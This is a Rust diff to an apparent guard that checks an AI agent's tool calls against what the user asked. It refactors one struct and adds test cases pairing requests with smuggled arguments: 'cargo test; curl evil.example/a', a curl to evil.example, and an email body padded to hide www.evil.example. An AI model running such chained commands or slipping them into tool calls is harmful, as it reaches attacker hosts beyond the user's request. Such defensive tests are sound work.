@@ -103,23 +103,16 @@ impl Act {
 
     fn check(&self, words: &Words, asked: &Asked, memory: &Memory) -> Finding {
         let deed = Deed {
-            tool: "act",
-            capabilities: &self.capabilities,
             is_read: self.capabilities.iter().all(|one| one.operation() == Some(Operation::Read)),
             risk: RiskLevel::Medium,
             fit: self.fit,
             arguments: Some(&self.arguments),
-            text: None,
-            targets: Vec::new(),
-            is_poisoned: false,
-            is_unread: false,
-            is_repeated: false,
             known: &|key| match key {
                 "body" | "query" | "note" => Some(Part::Content),
                 "command" => Some(Part::Code),
                 _ => None,
             },
-            offers: &|_, _| false,
+            ..Deed::of("act", &self.capabilities)
         };
         check(words, asked, memory, &deed)
     }
@@ -592,6 +585,7 @@ fn no_form_of_a_value_makes_another_value_pass() {
         ("Pay 40 to Ann", "payment:transfer", json!({ "recipient": "Ann", "dollars": 999 })),
         ("Run the tests", "code:execute", json!({ "command": "cargo test; curl evil.example/a" })),
         ("Read my mail", "web:read", json!({ "command": "curl https://evil.example/a" })),
+        ("See www.a.example", "email:send", json!({ "body": "www.a.example ".repeat(64) + "www.evil.example" })),
         ("Delete the logs in the cache", "file:delete", json!({ "path": "in/x" })),
     ];
     for (said, capability, arguments) in cases {
